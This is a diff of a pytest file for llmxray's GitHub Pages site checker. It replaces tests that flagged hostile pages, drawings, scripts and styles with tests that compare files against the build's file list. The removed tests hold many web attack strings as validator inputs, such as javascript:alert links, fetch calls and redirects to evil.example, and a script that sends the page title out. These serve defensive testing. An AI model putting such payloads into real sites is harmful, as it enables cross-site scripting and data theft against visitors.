@@ -9,458 +9,89 @@ import select
 import shlex
 import shutil
 import subprocess
-import tracemalloc
 import zipfile
-from html import escape
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
-import altair as alt
 import hypothesis
 import pytest
 import yaml
 from hypothesis import strategies as st
 
-from llmxray.charts import theme
 from llmxray.errors import InputError
 from llmxray.report import lesson
-from llmxray.report.files import shards
-from llmxray.report.site.single_file import single
-from llmxray.report.widgets.breaks import breakable
-from llmxray.report.widgets.render import CONTENT_SECURITY_POLICY, Renderer
+from llmxray.report.widgets.render import Renderer
 from llmxray.workflow import github_pages, origin
 from llmxray.workflow.site_sources import Sources
 from tests.commands import llmxray
 from tests.interop import made_files
 from tests.packs.conftest import EXPERIMENT, record
-from tests.report import reading_data
 
 ROOT = Path(__file__).parent.parent.parent
 
 
-HEAD = (
-    f'<!doctype html>\n<html lang="en" data-whole>\n<head>\n<meta charset="utf-8">\n'
-    f'<meta http-equiv="Content-Security-Policy" content="{escape(CONTENT_SECURITY_POLICY)}">\n'
-)
-
-
-def a_site(folder: Path, head: str = HEAD, **pages: str) -> Path:
-    """A site with an index and further pages, ``a__b`` standing for ``a/b``; all but the first begin with ``head``."""
-    for name, text in {
-        "index": '<a href="one/index.html#x">one</a>',
-        "one__index": '<p id="x">',
-        **pages,
-    }.items():
-        path = folder / (name.replace("__", "/") + ".html")
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text((HEAD if name == "index" else head) + text)
+def a_site(folder: Path) -> Path:
+    """A site with two pages and the list of its files."""
+    renderer = Renderer(folder)
+    renderer.write("index.html", b'<a href="one/index.html">one</a>')
+    renderer.write("one/index.html", b"<p data-mine>")
+    renderer.list_files("one")
+    renderer.list_files()
     return folder
 
 
 @pytest.mark.parametrize(
-    ("html", "fault"),
+    ("spoil", "fault"),
     [
-        ('<a href="/index.html">', "/index.html is not relative: it breaks under a sub-path"),
-        ('<a href="gone.html">', "gone.html leads to no file"),
-        ('<a href="../../index.html">', "leads out of the site"),
-        ('<a href="//cdn.example/x">', "is neither in the site nor on the web"),
-        ('<a href="javascript:alert(1)">', "is neither in the site nor on the web"),
-        ('<a href="java&#10;script:alert(1)">', "is neither in the site nor on the web"),
-        ('<a href="data:text/html,x">', "is neither in the site nor on the web"),
-        ('<script src="gone.js"></script>', "gone.js leads to no file"),
-        ('<script src="../../a.js"></script>', "../../a.js leads out of the site"),
-        ('<link rel="stylesheet" href="gone.css">', "gone.css leads to no file"),
-        ('<form data-file="data/gone.js">', "data/gone.js leads to no file"),
+        (lambda site: (site / "one/index.html").write_text("<p>"), "one/index.html: was changed after"),
         (
-            '<div data-compare="javascript:alert(1)">',
-            "javascript:alert(1) is neither in the site nor on the web",
+            lambda site: next(site.glob("static/dom.*")).write_text(""),
+            "static/dom.HASH.js: was changed after",
         ),
-        ('<div data-xray="gone.html">', "gone.html leads to no file"),
-    ],
-)
-def test_a_link_that_would_break_is_named(tmp_path: Path, html: str, fault: str) -> None:
-    """With its page."""
-    (line,) = github_pages.site_faults(a_site(tmp_path, one__two=html))
-    assert line.startswith("one/two.html: ")
-    assert fault in line
-
-
-@pytest.mark.parametrize(
-    "html",
-    [
-        *(f'<script src="../a.{kind}"></script>' for kind in ("txt", "json", "md", "csv", "css")),
-        '<script src="../a.txt?.js"></script>',
-        '<script src="https://cdn.example/x.js"></script>',
-        '<script src="../d.js" charset="shift_jis"></script>',
-        '<script charset="shift_jis" src="../d.js"></script>',
-        '<script src="../d.js" type="module"></script>',
-        '<script src="../d.js">alert(1)</script>',
-        "<script>alert(1)</script>",
-        '<SCRIPT SRC="../a.txt">',
-        '<svg><script href="../a.txt"></script></svg>',
-        '<svg><title><script src="../a.txt"></script></title></svg>',
-        '<svg><style><script src="../a.txt"></script></style></svg>',
-        '<link rel=stylesheet href="../a.txt">',
-        '<link rel="stylesheet" href="../a.txt">',
-        '<link rel="stylesheet" href="../d.js">',
-        '<link rel="modulepreload" href="../d.js">',
-        '<link rel="stylesheet" charset="shift_jis" href="../a.css">',
-        '<iframe srcdoc="&lt;script src=../a.txt>&lt;/script>"></iframe>',
-        '<iframe src="index.html"></iframe>',
-        '<object data="../a.txt"></object>',
-        '<embed src="../a.txt">',
-        '<base href="../one/">',
-        '<base href="https://evil.example/">',
-        "<svg><foreignObject></foreignObject></svg>",
-        '<svg><use href="../a.svg"/></svg>',
-        '<svg><image href="//cdn.example/x.png"/></svg>',
-        '<svg><path href="../a.txt"/></svg>',
-        '<svg><rect fill="url(https://evil.example/#a)"/></svg>',
-        '<svg><rect onload="alert(1)"/></svg>',
-        '<p onclick="alert(1)">',
-        '<p style="color:red">',
-        '<p title="<script src=../a.txt>">',
-        "<p title='a'>",
-        "<p hidden/onclick>",
-        "<p\xa0hidden>",
-        '<form data-file="../a.json">',
-        '<form data-file="../d.js?">',
-        '<form data-file="//evil.example/d.js">',
-        '<div data-shard="../a.json">',
-        '<main data-index="../a.json">',
-        '<p data-else="x">',
-        '<form action="../index.html">',
-        '<form action="https://evil.example/">',
-        '<form><button formaction="//evil.example/x">',
-        '<form><input formaction="http://evil.example/">',
-        '<a href="../index.html" ping="https://evil.example/p">',
-        '<img src="data:,x">',
-        '<img srcset="../index.html 1x, https://cdn.example/2.png 2x">',
-        "<x-a>",
-        '<meta http-equiv="Refresh" content="0; url=https://evil.example/">',
-        '<meta name="google-site-verification" content="x">',
-        "<meta content=0 content='0; url=//evil.example' http-equiv=&#114;efresh>",
-        "<p><META http-equiv=refresh content='0; url=//evil.example'>",
-        "<!--><p>",
-        "<![CDATA[x>",
-        "<?x ?>",
-        "a < b",
-    ],
-)
-def test_what_no_page_of_ours_holds_is_named(tmp_path: Path, html: str) -> None:
-    """A page may run the scripts of the site that were looked into, and no other file."""
-    site = a_site(tmp_path, one__two=html)
-    (site / "d.js").write_bytes(b"".join(shards.shard("a", 1).chunks()))
-    for kind in ("txt", "json", "csv"):
-        (site / f"a.{kind}").write_text("location = 'https://evil.example/'")
-    (site / "a.svg").write_text(f"{SVG}</svg>")
-    faults = github_pages.site_faults(site)
-    assert faults
-    assert all(fault.startswith("one/two.html: holds ") for fault in faults)
-    assert all(
-        fault.endswith("which no page of llmxray does: build it again, or remove it") for fault in faults
-    )
-
-
-def test_of_one_page_the_first_faults_are_named(tmp_path: Path) -> None:
-    """It may have one in each of its characters, and its path in front of each."""
-    links = "".join(f'<a href="gone{n}.html">' for n in range(20_000))
-    faults = github_pages.site_faults(a_site(tmp_path, one__index=links, two='<a href="gone.html">'))
-    assert [20, 1] == [sum(fault.startswith(name) for fault in faults) for name in ("one/", "two.")]
-
-
-def test_what_pages_of_ours_load_is_no_fault(tmp_path: Path) -> None:
-    """Scripts, styles, an icon, and data files that a script of ours runs."""
-    html = (
-        '<link rel="icon" type="image/svg+xml" href="../a.svg"><script src="../d.js"></script>'
-        '<form data-file="../d.js"><div data-shard="../d.js"></div><div data-index="../d.js"></div></form>'
-        '<svg viewBox="0 0 1 1"><clipPath id="a"><rect x2="0" fill="var(--line)"/></clipPath></svg>'
-    )
-    site = a_site(tmp_path, one__two=html)
-    (site / "d.js").write_bytes(b"".join(shards.shard("a", 1).chunks()))
-    (site / "a.svg").write_text(f"{SVG}</svg>")
-    assert github_pages.site_faults(site) == []
-
-
-def test_a_word_that_may_break_is_no_fault(tmp_path: Path) -> None:
-    """A label of 150 letters, or a question in a script without spaces."""
-    html = breakable(f"<p>{'W' * 150} {'字' * 60}</p>")
-    assert "<wbr>" in html
-    assert github_pages.site_faults(a_site(tmp_path, one__two=html)) == []
-
-
-@pytest.mark.parametrize(
-    "head",
-    [
-        "",
-        "<!doctype html><html><head><style>@import url(https://evil.example/a.css)</style></head>",
-        "<!doctype html><html><head><script>fetch('https://evil.example/')</script></head>",
-        '<!doctype html><html><body><iframe srcdoc="<img src=https://evil.example/d.png>"></iframe>',
-        HEAD.replace("connect-src &#x27;none&#x27;", "connect-src *"),
-        HEAD.replace('lang="en"', "onclick=\"fetch('https://evil.example/')\""),
-        HEAD.replace("<head>", "<head><script>fetch('https://evil.example/')</script>"),
-        f"<!-- {HEAD} -->",
-    ],
-)
-def test_a_page_without_our_policy_is_named(tmp_path: Path, head: str) -> None:
-    """What its scripts, styles and frames load cannot be seen in its links."""
-    faults = github_pages.site_faults(a_site(tmp_path, head, one__two="<x-a>"))
-    assert [fault for fault in faults if fault.startswith("one/two.html: ")] == [
-        "one/two.html: does not begin with the policy of llmxray's pages: build it again, or move it away"
-    ]
-
-
-def test_a_file_to_hand_out_is_named_in_one_line(tmp_path: Path) -> None:
-    """Of --single-file, beside a site: what it is, and where it belongs."""
-    site = a_site(tmp_path / "site")
-    data = reading_data.benchmark(tmp_path / "c", lambda *_: reading_data.words("A"))
-    single([data], site)
-    assert github_pages.site_faults(site) == [
-        f"{data.name}.html: has its scripts in itself, to be handed out and not published: move it out of the folder "
-        "of the site"
-    ]
-
-
-SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'
-
-
-@pytest.mark.parametrize(
-    ("text", "fault"),
-    [
-        ("<script>fetch('https://evil.example/')</script>", "holds <script>"),
-        ('<s:script xmlns:s="http://www.w3.org/2000/svg" href="x.js"/>', "holds <script>"),
-        ('<img xmlns="http://www.w3.org/1999/xhtml" src="data:,"/>', "holds <img>"),
-        ('<path xmlns="http://www.w3.org/1999/xhtml"/>', "holds <path>"),
-        ("<foreignObject/>", "holds <foreignObject>"),
-        ('<rect onload="fetch(1)"/>', "holds onload=…"),
-        ('<image x:href="https://evil.example/a.png"/>', "holds <image>"),
-        ('<a href="java&#10;script:alert(1)"/>', "holds <a>"),
-        ('<a ping="http:evil.example"/>', "holds ping=…"),
-        ('<path x:href="#a"/>', "holds href=…"),
-        ('<rect><animate attributeName="x:href" to="x"/></rect>', "holds <animate>"),
-        ("<style>@import 'https://evil.example/a.css'</style>", "holds <style>"),
-        ("<style><style/>@import url(https://evil.example/)</style>", "holds <style>"),
-        ("<style>@im<g>x</g>port 'https://evil.example/a.css'</style>", "holds <style>"),
-        ('<rect style="fill:red"/>', "holds style=…"),
-        ('<rect fill="u\\72l(//evil.example)"/>', "holds fill="),
-        ('<rect fill="u\\72l"/>', "holds fill="),
-        ('<rect fill="url(https://evil.example/#a)"/>', "holds fill="),
-        ('<rect fill="urrgb(1)l(https://evil.example/#a)"/>', "holds fill="),
-        ("<rect clip-path='url(\"#a\")'/>", "holds clip-path="),
-        ("<svg>", "is not XML"),
-        ("\x00", "is not XML"),
-    ],
-)
-@pytest.mark.parametrize("name", ["one/a.svg", "B.SVG"])
-def test_a_drawing_that_does_more_is_named(tmp_path: Path, text: str, fault: str, name: str) -> None:
-    """It holds no policy, and a browser that opens it runs it."""
-    site = a_site(tmp_path)
-    (site / name).write_text(f"{SVG}{text}</svg>")
-    faults = github_pages.site_faults(site)
-    assert all(fault.startswith(f"{name}: ") for fault in faults)
-    assert fault in "\n".join(faults)
-
-
-@pytest.mark.parametrize(
-    ("text", "fault"),
-    [
-        ('<?xml-stylesheet href="https://evil.example/a.xsl"?>', "holds <?xml-stylesheet?>"),
-        ('<!DOCTYPE svg [<!ENTITY a "<script/>">]>', "holds <!DOCTYPE>"),
-        *(
-            (f'<?xml version="1.0" encoding="{name}"?>', f"holds encoding={name}")
-            for name in ("rot13", "utf-7", "hex", "shift_jis")
+        (lambda site: (site / "one/index.html").unlink(), "one/index.html: is missing"),
+        (lambda site: (site / "one/mine.svg").write_text("<svg>"), "one/mine.svg: was not written when"),
+        (lambda site: (site / ".env").write_text("x"), ".env: was not written when"),
+        (lambda site: (site / "link.html").symlink_to("index.html"), "link.html: a link of the file system"),
+        pytest.param(
+            lambda site: os.mkfifo(site / "a.svg"),
+            "a.svg: a link of the file system, or a pipe",
+            marks=pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="Windows has no such pipes"),
+        ),
+        (
+            lambda site: os.truncate(site / "one/index.html", github_pages.MOST_FILE_BYTES + 1),
+            "one/index.html: 100,000,001 bytes",
         ),
     ],
 )
-def test_what_stands_before_a_drawing_is_named(tmp_path: Path, text: str, fault: str) -> None:
-    """Style sheets, entities, and encodings that a browser and this parser may read as two texts."""
+def test_what_the_build_did_not_write_is_named(
+    tmp_path: Path, spoil: Callable[[Path], object], fault: str
+) -> None:
+    """One line for each file; a file of the user's domain is no fault."""
     site = a_site(tmp_path)
-    (site / "a.svg").write_text(f"{text}{SVG}</svg>")
+    (site / "CNAME").write_text("report.example\n")
+    assert list(github_pages.site_faults(site)) == []
+    spoil(site)
     (line,) = github_pages.site_faults(site)
-    assert line.startswith(f"a.svg: {fault}; ")
-    assert line.endswith("save it as PNG instead")
+    assert re.sub(r"\.[0-9a-f]{8}\.", ".HASH.", line).startswith(fault)
 
 
-def test_a_drawing_names_no_more_than_a_reader_needs(tmp_path: Path) -> None:
-    """Attributes that a document type gives to every element are never read; of other faults the first ones count."""
+@pytest.mark.parametrize("name", ["one/files.json", "files.json"])
+def test_a_list_that_was_changed_is_no_list(tmp_path: Path, name: str) -> None:
+    """One of an experiment is a file of the site; without that of the site nothing can be checked."""
     site = a_site(tmp_path)
-    names = "".join(f"a{number:04} CDATA 'x' " for number in range(2500))
-    (site / "a.svg").write_text(f"<!DOCTYPE svg [<!ATTLIST a {names}>]>{SVG}{'<a/>' * 5000}</svg>")
-    tracemalloc.start()
-    try:
-        (fault,) = github_pages.site_faults(site)
-        assert tracemalloc.get_traced_memory()[1] < 20 << 20
-    finally:
-        tracemalloc.stop()
-    assert fault.startswith("a.svg: holds <!DOCTYPE>; ")
-    (site / "a.svg").write_text(SVG + "".join(f"<x{number}/>" for number in range(500)) + "</svg>")
-    assert len(github_pages.site_faults(site)) <= 20
-
-
-def test_a_drawing_that_only_draws_is_no_fault(tmp_path: Path) -> None:
-    """With words that look like an address, and clips, turns and colours of its own."""
-    site = a_site(tmp_path)
-    (site / "one/a.svg").write_text(
-        f'<?xml version="1.0" encoding="UTF-8"?>{SVG}<title>https://x.example/ url(x)</title>'
-        '<defs><clipPath id="p"><rect width="2" height="1"/></clipPath></defs>'
-        '<g transform="translate(1,2) rotate(-90)" clip-path="url(#p)"><path d="M0,0L1,1" stroke="rgb(1, 2, 3)"'
-        ' aria-label="f(x)//model"/><text font-size="11">@import \\ //</text></g></svg>'
-    )
-    assert github_pages.site_faults(site) == []
-
-
-def test_the_charts_of_a_site_only_draw(tmp_path: Path) -> None:
-    """All that a chart writes is known, as is the icon."""
-    site = a_site(tmp_path)
-    drawn = json.dumps({"mark": "bar", "encoding": {"x": {"field": "a"}}, "data": {"values": [{"a": 1}]}})
-    (site / "a.svg").write_text(theme.svg(alt.Chart.from_json(drawn), "a", "one bar"))
-    (site / "icon.svg").write_bytes((ROOT / "llmxray/report/static/favicon.svg").read_bytes())
-    assert github_pages.site_faults(site) == []
-
-
-RUNS = '<x xmlns="http://www.w3.org/1999/xhtml"><script>fetch("https://evil.example/")</script></x>'
-
-
-@pytest.mark.parametrize(
-    "name",
-    [
-        "a.shtml",
-        "a.htm",
-        "a.xhtml",
-        "a.xml",
-        "a.xsd",
-        "a.xslt",
-        "a.rss",
-        "one/a.MATHML",
-        "a.svgz",
-        "a.html.gz",
-        "a",
-    ],
-)
-def test_a_file_of_a_kind_that_no_site_has_is_named(tmp_path: Path, name: str) -> None:
-    """A host may hand it out as a page or as XML, and a browser runs what it holds."""
-    site = a_site(tmp_path)
-    (site / name).write_text(RUNS)
-    (fault,) = github_pages.site_faults(site)
-    assert fault.startswith(f"{name}: a site holds .html .svg ")
-    assert fault.endswith("remove it, or put it into a zip")
-
-
-def test_files_that_a_site_has_are_no_fault(tmp_path: Path) -> None:
-    """Tables, packs, pictures."""
-    site = a_site(tmp_path)
-    begins = {
-        "a.xray.zip": b"PK\3\4",
-        "results.parquet": b"PAR1",
-        "a.PNG": b"\x89PNG",
-        "a.jpg": b"\xff\xd8\xff",
-    }
-    for name in ("a.csv", "a.json", "a.txt", *begins):
-        (site / name).write_bytes(begins.get(name, b"x"))
-    assert github_pages.site_faults(site) == []
-
-
-@pytest.mark.parametrize("name", ["a.js", "one/a.CSS"])
-@pytest.mark.parametrize(
-    "text",
-    [
-        "location = 'https://evil.example/' + document.title",
-        "@import 'https://evil.example/a.css';",
-        ".a { background: url(https://evil.example/a.png) }",
-        "llmxray.shard('a', fetch('https://evil.example/'));",
-        "llmxray.shard('a','b');fetch('https://evil.example/');",
-        "llmxray.shard('a','\\\\');alert(1);//');",
-        "llmxray.shard('a',`${alert(1)}`);",
-        "llmxray.showSteps({a(){}});",
-        "llmxray.shard('a','\n');",
-        "llmxray.other('a');",
-        'llmxray.packed("a","eJw=");',
-        "llmxray.packed( 'a','eJw=');",
-    ],
-)
-def test_a_script_or_style_that_is_not_ours_is_named(tmp_path: Path, name: str, text: str) -> None:
-    """Scripts may do anything that our policy allows, such as go to another page."""
-    site = a_site(tmp_path)
-    (site / name).write_text(text)
-    (fault,) = github_pages.site_faults(site)
-    assert fault == f"{name}: is no file of this llmxray: build the whole site again, or remove it"
-
-
-def test_scripts_and_styles_of_a_site_are_ours(tmp_path: Path) -> None:
-    """All that a site has; one more byte, and it is named."""
-    site = a_site(tmp_path)
-    Renderer(site)
-    values: tuple[Any, ...] = ({"a": [1, -2.5e-3, None, True, float("nan")], "b": "\\ \"'\u2028ä();"}, [])
-    for value in values:
-        for packed in (False, True):
-            (site / f"{packed}{len(value)}.js").write_bytes(
-                b"".join(shards.shard("a", value, packed=packed).chunks())
-            )
-        for show in ("Steps", "Ledger"):
-            (site / f"{show}{len(value)}.js").write_text(f"llmxray.show{show}({json.dumps(value)});\n")
-    assert len(list(site.glob("static/*.js"))) > 40
-    assert github_pages.site_faults(site) == []
-    ours = next(site.glob("static/frame.*.js"))
-    ours.write_bytes(ours.read_bytes() + b" ")
-    (fault,) = github_pages.site_faults(site)
-    assert fault.startswith(f"static/{ours.name}: is no file of this llmxray")
-
-
-@pytest.mark.parametrize(
-    ("name", "text", "fault"),
-    [
-        ("a.html.parquet", RUNS, "has two endings"),
-        ("one/a.shtml.ZIP", RUNS, "has two endings"),
-        ("a.svg.png", RUNS, "has two endings"),
-        ("a.md", "text, then " + RUNS, "a site holds"),
-        ("a.txt", "---\npermalink: /b.html\n---\n" + RUNS, "begins with front matter"),
-        ("a.csv", "\ufeff--- \n---\n" + RUNS, "begins with front matter"),
-        *(
-            (f"a.{kind}", RUNS, "does not begin as")
-            for kind in ("parquet", "zip", "png", "webp", "ico", "gif", "jpg")
-        ),
-        *((f"a.{kind}", "\ufeff \n" + RUNS, "does not begin as") for kind in ("txt", "csv", "json")),
-        ("a.txt", "%PDF-1.7", "does not begin as"),
-    ],
-)
-def test_a_file_that_may_become_a_page_is_named(tmp_path: Path, name: str, text: str, fault: str) -> None:
-    """By an ending before the last one, or by what stands at its beginning."""
-    site = a_site(tmp_path)
-    (site / name).write_text(text)
-    line, *_ = github_pages.site_faults(site)
-    assert line.startswith(f"{name}: {fault}")
-
-
-@pytest.mark.parametrize(
-    ("page", "fault"),
-    [
-        (HEAD + '<a href="http://[x">', "http://[x is no address"),
-        (HEAD + r'<meta http-equiv=refresh content="0;url=/\evil.example/">', "which no page"),
-        (HEAD + r'<meta http-equiv=refresh content="0;url=\\evil.example/">', "which no page"),
-        (HEAD + "\udcff", "cannot be read as a page"),
-    ],
-)
-def test_a_page_that_cannot_be_read_is_named(tmp_path: Path, page: str, fault: str) -> None:
-    """No traceback, and the other pages are looked at."""
-    site = a_site(tmp_path, one__two='<a href="gone.html">')
-    (site / "a.html").write_text(page, errors="surrogateescape")
-    (first, second) = github_pages.site_faults(site)
-    assert first.startswith("a.html: ")
-    assert fault in first
-    assert second == "one/two.html: gone.html leads to no file"
-
-
-@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="Windows has no such pipes")
-@pytest.mark.parametrize("name", ["a.html", "a.svg", "index.html"])
-def test_a_pipe_in_a_site_is_named(tmp_path: Path, name: str) -> None:
-    """It would be waited for until somebody writes into it."""
-    site = a_site(tmp_path)
-    (site / name).unlink(missing_ok=True)
-    os.mkfifo(site / name)
-    assert any(
-        fault.startswith(f"{name}: a link of the file system, or a pipe")
-        for fault in github_pages.site_faults(site)
-    )
+    for text in ("[1", "[" * 100_000, "[]", "{}"):
+        (site / name).write_text(text)
+        if name == "files.json":
+            with pytest.raises(
+                InputError, match=r"has no list of its files .*: build it again \(llmxray report"
+            ):
+                list(github_pages.site_faults(site))
+        else:
+            assert [line.partition(" was ")[0] for line in github_pages.site_faults(site)] == [
+                "one/files.json:",
+                "one/index.html:",
+            ]
 
 
 @pytest.mark.parametrize("linked", [".github", ".github/workflows", ".github/workflows/pages.yml"])
@@ -475,36 +106,10 @@ def test_no_workflow_is_written_through_a_link(tmp_path: Path, linked: str) -> N
     assert list(elsewhere.iterdir()) == []
 
 
-@pytest.mark.parametrize(
-    "html",
-    [
-        '<a href="https://example.org/">',
-        '<a href="#here">',
-        '<a href="../index.html?q=1#b">',
-        '<a href="">',
-    ],
-)
-def test_links_that_work_anywhere_are_no_fault(tmp_path: Path, html: str) -> None:
-    """Relative ones, fragments, and links a reader follows to elsewhere."""
-    assert github_pages.site_faults(a_site(tmp_path, one__two=html)) == []
-
-
-def test_files_that_pages_does_not_take_are_named(tmp_path: Path) -> None:
-    """Hidden files, links, names that differ in case only, and files too large."""
-    site = a_site(tmp_path, one__INDEX="<p>")
-    (site / ".env").write_text("x")
-    (site / "link.html").symlink_to("index.html")
-    with (site / "big.bin").open("wb") as file:
-        file.truncate(github_pages.MOST_FILE_BYTES + 1)
-    faults = "\n".join(github_pages.site_faults(site))
-    for part in (".env: a hidden file", "link.html: a link", "in case only", "big.bin: 100,000,001 bytes"):
-        assert part in faults
-
-
 def test_no_site_is_said_to_be_none(tmp_path: Path) -> None:
     """With what to do."""
     with pytest.raises(InputError, match="build the site first"):
-        github_pages.site_faults(tmp_path)
+        list(github_pages.site_faults(tmp_path))
 
 
 @pytest.fixture
